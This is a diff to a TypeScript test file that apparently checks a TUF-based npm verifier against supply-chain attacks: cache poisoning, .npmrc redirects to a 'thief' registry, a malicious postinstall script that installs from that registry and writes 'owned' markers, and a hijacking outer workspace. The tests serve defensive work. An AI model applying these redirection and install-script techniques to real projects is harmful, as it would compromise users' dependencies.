@@ -1,7 +1,7 @@
 /** Ways around the registry: each one fools plain npm, and none of them `tuf-verifier ci`. */
 
 import assert from "node:assert/strict";
-import { chmodSync } from "node:fs";
+import { chmodSync, readdirSync, statSync } from "node:fs";
 import { test, type TestContext } from "node:test";
 import { Desk, type Variables } from "./world/desk.js";
 import { integrity, type Package, tarball } from "./world/package.js";
@@ -96,6 +96,29 @@ test("npm's cache, poisoned", async (context) => {
   assert.equal(desk.installed("words"), "hello");
 });
 
+test("npm's cache with the right bytes, and with others in their place", async (context) => {
+  const honest = await PlainRegistry.serving(HONEST);
+  context.after(() => honest.stop());
+  const desk = new Desk(context);
+  desk.trust(new Published(HONEST));
+  desk.project(HONEST);
+  const cache = { npm_config_cache: desk.path("cache") };
+  const registry = { npm_config_registry: honest.url, "npm_config_@scope:registry": honest.url };
+  (await desk.npm(["ci"], { ...cache, ...registry })).endsWith(0);
+
+  // Every package is handed out in this run: also one that npm would find.
+  (await desk.tuf(["ci"], cache)).endsWith(0);
+  for (const file of readdirSync(desk.path("cache/_cacache/content-v2"), { recursive: true, encoding: "utf8" })) {
+    const path = `cache/_cacache/content-v2/${file}`;
+    if (statSync(desk.path(path)).isFile()) {
+      desk.write(path, tarball(EVIL[0] ?? WORDS));
+    }
+  }
+  (await desk.tuf(["ci"], cache)).endsWith(0);
+  assert.equal(desk.installed("words"), "hello");
+  assert.equal(desk.installed("@scope/greet"), "greetings");
+});
+
 test("packages that were installed before", async (context) => {
   const { desk, thief } = await victim(context);
   desk.write("project/.npmrc", `registry=${thief.url}\n@scope:registry=${thief.url}\n`);
@@ -145,18 +168,60 @@ test("a run that installs nothing", async (context) => {
 });
 
 test("an npm that a script of a package starts", async (context) => {
-  const script = `npm install left@1.0.0 --no-save --prefix="$INIT_CWD/other" && echo owned > "$INIT_CWD/owned"; true`;
+  // It asks for a package of the registry that it finds, and for one of the thief's by name.
+  const script = `
+    npm install left@1.0.0 --no-save --prefix="$INIT_CWD/found" && echo owned > "$INIT_CWD/found-owned"
+    npm install left@1.0.0 --no-save --prefix="$INIT_CWD/named" --registry="$THIEF" && echo owned > "$INIT_CWD/named-owned"
+    true`;
   const noisy: Package = { ...WORDS, fields: { scripts: { postinstall: script }, hasInstallScript: true } };
   const thief = await PlainRegistry.serving([noisy, { name: "left", version: "1.0.0", word: "owned" }]);
   context.after(() => thief.stop());
   const desk = new Desk(context);
   desk.trust(new Published([noisy]));
   desk.project([noisy]);
-  desk.write("project/.npmrc", `registry=${thief.url}\n`);
-  const variables = { npm_config_dangerously_allow_all_scripts: "true" };
+  desk.write("project/.npmrc", `registry=${thief.url}\nnoproxy=127.0.0.1\n`);
+  const variables = { THIEF: thief.url, npm_config_dangerously_allow_all_scripts: "true" };
   (await desk.npm(["ci"], variables)).endsWith(0);
-  assert.ok(desk.has("project/owned"), "plain npm");
-  desk.write("project/owned", "");
-  (await desk.tuf(["ci", "--dangerously-allow-all-scripts"])).endsWith(0);
-  assert.equal(desk.read("project/owned"), "");
+  for (const name of ["found-owned", "named-owned"]) {
+    assert.equal(desk.read(`project/${name}`), "owned\n");
+    desk.write(`project/${name}`, "");
+  }
+  (await desk.tuf(["ci"], variables)).endsWith(0);
+  assert.deepEqual(["found-owned", "named-owned"].map((name) => desk.read(`project/${name}`)), ["", ""]);
+});
+
+test("a scope that no variable can name", async (context) => {
+  const greet: Package = { name: "@my_scope/greet", version: "1.0.0", word: "greetings" };
+  const thief = await PlainRegistry.serving([{ ...greet, word: "owned" }]);
+  context.after(() => thief.stop());
+  const desk = new Desk(context);
+  desk.trust(new Published([greet]));
+  desk.project([greet], () => ({}));
+  desk.write("project/.npmrc", `@my_scope:registry=${thief.url}\n`);
+  (await desk.npm(["ci"])).endsWith(0);
+  assert.equal(desk.installed("@my_scope/greet"), "owned");
+  (await desk.tuf(["ci"])).endsWith(0);
+  assert.equal(desk.installed("@my_scope/greet"), "greetings");
+});
+
+test("a project around the project, which npm goes up to", async (context) => {
+  const { desk, thief } = await victim(context);
+  const own = { name: "outer", version: "1.0.0", workspaces: ["project"] };
+  const [evil = WORDS] = EVIL;
+  desk.write("package.json", JSON.stringify(own));
+  desk.writeLock(
+    {
+      "": own,
+      "node_modules/words": { version: evil.version },
+      "node_modules/@scope/greet": { version: GREET.version, dependencies: GREET.dependencies },
+      "node_modules/project": { link: true, resolved: "project" },
+      project: { version: "1.0.0", dependencies: { words: "1.1.0", "@scope/greet": "2.0.0" } },
+    },
+    "../package-lock.json",
+  );
+  const variables = { npm_config_registry: thief.url, "npm_config_@scope:registry": thief.url };
+  (await desk.npm(["ci"], variables)).endsWith(0);
+  assert.match(desk.read("node_modules/words/index.js"), /owned/);
+  (await desk.tuf(["ci"], variables)).endsWith(0);
+  assert.equal(desk.installed("words"), "hello");
 });
